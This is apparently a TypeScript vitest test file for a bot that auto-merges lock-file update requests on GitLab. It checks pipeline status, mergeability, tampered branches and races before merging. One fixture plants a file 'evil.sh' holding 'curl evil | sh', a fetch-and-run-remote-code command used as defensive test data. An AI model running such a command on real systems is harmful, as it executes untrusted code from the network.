import { expect, test } from "vitest";
import { startCompany, type Company } from "./company.js";

const CONFIG = "automerge: true";

async function proposed(config = CONFIG): Promise<Company> {
  const company = await startCompany({ config });
  company.gitlab.knobs.mergeabilityChecks = 0;
  company.build("acme", "acme 2");
  await company.run();
  company.writes();
  return company;
}

function pipeline({ gitlab, forge }: Company, status: "success" | "failed" | "running", sha?: string): void {
  const head = sha ?? forge.headOf("artifacts/acme") ?? "";
  gitlab.addPipeline("platform/packages", { ref: "artifacts/acme", status, sha: head });
}

async function detailOf({ run }: Company): Promise<string | undefined> {
  return (await run()).applied[0]?.detail;
}

test("it is merged when a pipeline of exactly its commit has succeeded, and only then", async () => {
  const company = await proposed();

  expect(await detailOf(company)).toBe("no pipeline ran for its commit");
  pipeline(company, "success", "0".repeat(40));
  expect(await detailOf(company)).toBe("no pipeline ran for its commit");
  pipeline(company, "running");
  expect(await detailOf(company)).toBe("its pipeline is running");
  pipeline(company, "failed");
  expect(await detailOf(company)).toBe("its pipeline is failed");
  expect(company.writes()).toEqual([]);

  pipeline(company, "success");
  await company.run();

  expect(company.writes()).toEqual(["PUT /merge_requests/1/merge"]);
  expect(company.forge.mergeRequests[0]?.state).toBe("merged");
  expect(company.locked("main").artifacts["acme"]?.systems["any"]?.size).toBe(6);
  await company.run();
  expect(company.writes()).toEqual([]);
});

test("without the setting a green pipeline merges nothing", async () => {
  const company = await proposed("");
  pipeline(company, "success");

  await company.run();

  expect(company.writes()).toEqual([]);
});

test("GitLab has the last word on whether it can be merged", async () => {
  const company = await proposed();
  pipeline(company, "success");
  company.gitlab.knobs.mergeabilityChecks = 5;
  company.forge.branchMoved("artifacts/acme", 5);

  expect(await detailOf(company)).toBe("GitLab says checking");
  expect(company.writes()).toEqual([]);
});

test.each([
  ["one more file", { "evil.sh": "curl evil | sh" }],
  ["another lock", { "artifacts.lock.json": '{ "version": 1, "artifacts": {} }\n' }],
  ["another overlay", { "nix/artifacts/overlay.nix": "final: prev: { evil = true; }\n" }],
])("a commit that copies the bot's trailer but holds %s is not merged", async (_what, files) => {
  const company = await proposed();
  const { repository } = company.forge;
  const own = repository.at("artifacts/acme");
  if (own === undefined) throw new Error("there is no branch");
  const all = { ...Object.fromEntries(own.tree), ...files };
  repository.commit("artifacts/acme", { files: all, message: own.message, onto: own.parents[0] ?? "" });
  company.forge.branchMoved("artifacts/acme", 0);
  pipeline(company, "success");

  expect(await detailOf(company)).toBe("the branch holds more than the update");
  expect(company.writes()).toEqual([]);
  expect(company.open()).toHaveLength(1);
});

test("a person's push between the look and the merge stops it", async () => {
  const company = await proposed();
  pipeline(company, "success");
  const stolen = company.run({
    through: (writer) => ({
      ...writer,
      send(instance, write) {
        company.forge.repository.commit("artifacts/acme", { files: { "evil.sh": "x" } });
        company.forge.branchMoved("artifacts/acme", 0);
        return writer.send(instance, write);
      },
    }),
  });

  expect((await stolen).applied).toMatchObject([
    { outcome: "not merged", detail: expect.stringContaining("SHA does not match") },
  ]);
  expect(company.forge.mergeRequests[0]?.state).toBe("opened");
});
